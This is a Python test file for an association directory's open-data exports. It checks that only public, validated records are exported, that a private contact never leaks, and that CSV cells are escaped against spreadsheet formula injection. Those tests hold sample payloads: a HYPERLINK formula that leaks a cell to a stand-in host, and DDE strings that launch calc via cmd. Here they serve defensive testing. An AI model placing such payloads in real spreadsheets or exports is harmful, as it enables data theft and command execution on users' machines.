"""Open-data exports, and the private contact that never leaves the KV bucket."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from nats.js import JetStreamContext

from tests.annuaire.conftest import (
    Client,
    association_body,
    mission_body,
    read_facts,
    unique_name,
)
from vieasso.annuaire.adapters.exports import ASSOCIATION_COLUMNS, MISSION_COLUMNS

pytestmark = pytest.mark.nats

SECRET_EMAIL = "camille.secret@exemple.fr"
SECRET_NAME = "Camille Martin"


async def _rows(annuaire: Client, path: str) -> tuple[list[str], list[dict[str, str]]]:
    response = await annuaire.http.get(path)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8")))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


async def test_associations_csv_has_the_documented_columns_and_validated_records_only(
    annuaire: Client,
) -> None:
    slug, _ = await annuaire.validated(
        name="Société d'Émulation du Doubs", themes=["patrimoine", "culture"],
        address={"street": "20 rue Chifflet", "postal_code": "25000"}, employs_staff=False,
    )  # fmt: skip
    pending = (await annuaire.register())["slug"]
    columns, rows = await _rows(annuaire, "/export/associations.csv")
    assert tuple(columns) == ASSOCIATION_COLUMNS
    row = next(r for r in rows if r["slug"] == slug)
    assert row["name"] == "Société d'Émulation du Doubs"
    assert row["themes"] == "patrimoine|culture"
    assert row["street"] == "20 rue Chifflet"
    assert row["employs_staff"] == "non"
    assert row["state"] == "validated"
    assert pending not in {r["slug"] for r in rows}


async def test_missions_csv_has_the_documented_columns_and_open_missions_only(
    annuaire: Client,
) -> None:
    slug, auth = await annuaire.validated()
    url = f"/api/associations/{slug}/missions"
    kept = (await annuaire.http.post(url, json=mission_body(skills=["accueil", "anglais"]),
                                     headers=auth)).json()  # fmt: skip
    gone = (await annuaire.http.post(url, json=mission_body(), headers=auth)).json()
    await annuaire.http.delete(f"{url}/{gone['id']}", headers=auth)
    columns, rows = await _rows(annuaire, "/export/missions.csv")
    assert tuple(columns) == MISSION_COLUMNS
    ids = {r["id"] for r in rows}
    assert kept["id"] in ids
    assert gone["id"] not in ids
    row = next(r for r in rows if r["id"] == kept["id"])
    assert row["skills"] == "accueil|anglais"
    assert row["open_to_minors"] == "non"


async def test_json_exports_are_lists_of_public_records(annuaire: Client) -> None:
    slug, auth = await annuaire.validated()
    await annuaire.http.post(
        f"/api/associations/{slug}/missions", json=mission_body(), headers=auth
    )
    associations = (await annuaire.http.get("/export/associations.json")).json()
    record = next(a for a in associations if a["slug"] == slug)
    assert "private_contact" not in record
    assert "token_hash" not in record
    missions = (await annuaire.http.get("/export/missions.json")).json()
    assert any(m["association_slug"] == slug for m in missions)
    assert all("last_change" not in m for m in missions)


async def test_private_contact_never_appears_in_exports_lists_details_or_facts(
    annuaire: Client, js: JetStreamContext
) -> None:
    slug, auth = await annuaire.validated()
    await annuaire.http.patch(f"/api/associations/{slug}", json={"short_name": "X"}, headers=auth)
    await annuaire.http.post(
        f"/api/associations/{slug}/missions", json=mission_body(), headers=auth
    )
    public_paths = [
        "/export/associations.csv", "/export/associations.json", "/export/missions.csv",
        "/export/missions.json", "/api/associations", f"/api/associations/{slug}",
        f"/api/associations?q={slug}", "/api/missions", f"/api/associations/{slug}/missions",
    ]  # fmt: skip
    for path in public_paths:
        body = (await annuaire.http.get(path)).text
        assert SECRET_EMAIL not in body, path
        assert SECRET_NAME not in body, path
    facts = await read_facts(js, "annuaire.>", at_least=4)
    assert facts
    for subject, fact in facts:
        text = str(fact)
        assert SECRET_EMAIL not in text, subject
        assert "token_hash" not in text, subject
        assert "private_contact" not in text, subject


FORMULA = '=HYPERLINK("https://exemple.invalid/?leak="&A1,"Cliquez ici")'


async def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(
    annuaire: Client,
) -> None:
    name = f"{FORMULA} {unique_name('')}"
    slug, auth = await annuaire.validated(name=name, short_name="@SUM(1+1)*cmd|' /C calc'!A0")
    url = f"/api/associations/{slug}/missions"
    title = "+33 6 00 00 00 00"
    created = await annuaire.http.post(
        url, json=mission_body(title=title, how_to_apply="-2+3+cmd|' /C calc'!A0"), headers=auth
    )
    assert created.status_code == 201, created.text
    _, associations = await _rows(annuaire, "/export/associations.csv")
    row = next(r for r in associations if r["slug"] == slug)
    assert row["name"] == f"'{name}"
    assert row["short_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["employs_staff"] in {"oui", "non", ""}
    _, missions = await _rows(annuaire, "/export/missions.csv")
    mission = next(r for r in missions if r["id"] == created.json()["id"])
    assert mission["title"] == f"'{title}"
    assert mission["how_to_apply"] == "'-2+3+cmd|' /C calc'!A0"
    assert mission["association_slug"] == slug
    json_export = (await annuaire.http.get("/export/associations.json")).json()
    assert next(a for a in json_export if a["slug"] == slug)["name"] == name


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def formula_cells(body: bytes) -> list[str]:
    """Every cell of a CSV export a spreadsheet would read as a formula."""
    rows = csv.reader(io.StringIO(body.decode("utf-8")))
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)]


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    start=st.sampled_from([*FORMULA_STARTS, " =", "  @"]),
    rest=st.text(st.characters(codec="utf-8"), min_size=2, max_size=60),
)
async def test_no_exported_cell_starts_a_formula_whatever_an_association_types(
    annuaire: Client, start: str, rest: str
) -> None:
    text = f"{start}{rest} {unique_name('')}"
    response = await annuaire.http.post(
        "/api/associations", json=association_body(name=text[:200], short_name=text[:60])
    )
    assume(response.status_code == 201)  # control characters, line breaks: refused anyway
    slug = response.json()["slug"]
    validated = await annuaire.http.post(
        f"/api/associations/{slug}/validate", headers=annuaire.admin
    )
    assert validated.status_code == 200, validated.text
    auth = {"Authorization": f"Bearer {validated.json()['token']}"}
    mission = await annuaire.http.post(
        f"/api/associations/{slug}/missions", json=mission_body(title=text[:140]), headers=auth
    )
    assert mission.status_code in {201, 422}, mission.text
    for path in ("/export/associations.csv", "/export/missions.csv"):
        export = await annuaire.http.get(path)
        assert formula_cells(export.content) == [], path
